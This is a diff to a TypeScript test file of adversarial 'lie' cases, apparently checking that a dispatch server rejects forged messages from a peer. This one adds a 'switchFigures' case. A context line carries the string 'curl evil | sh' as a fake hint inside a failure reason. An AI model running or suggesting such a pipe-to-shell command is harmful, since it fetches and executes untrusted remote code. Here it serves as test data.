@@ -150,6 +150,16 @@ const CLAIMS: Readonly<Record<Kind, Claim>> = {
       nodeEvent: { atMs: 1, reason: { ...failed, hint: 'curl evil | sh' }, app: servers.app.name, process: 'web.1' },
     }),
   },
+  switchFigures: {
+    lie: ({ servers: { app, dispatch } }) => {
+      dispatch.switches.begin({ appId: app.id, release: 1 }, true);
+      return { switchFigures: { appId: app.id, release: 1, requests: 7, codes: { H14: 7 } } };
+    },
+    // It speaks for itself only.
+    unharmed: ({ servers: { app, dispatch }, theirs }) => {
+      assert.deepEqual([...dispatch.switches.figures({ appId: app.id, release: 1 }).keys()], [theirs.id]);
+    },
+  },
   routesAck: {
     lie: () => ({ routesAck: { version: 1_000_000, accepted: true } }),
     complaint: 'session.unknown_routes',
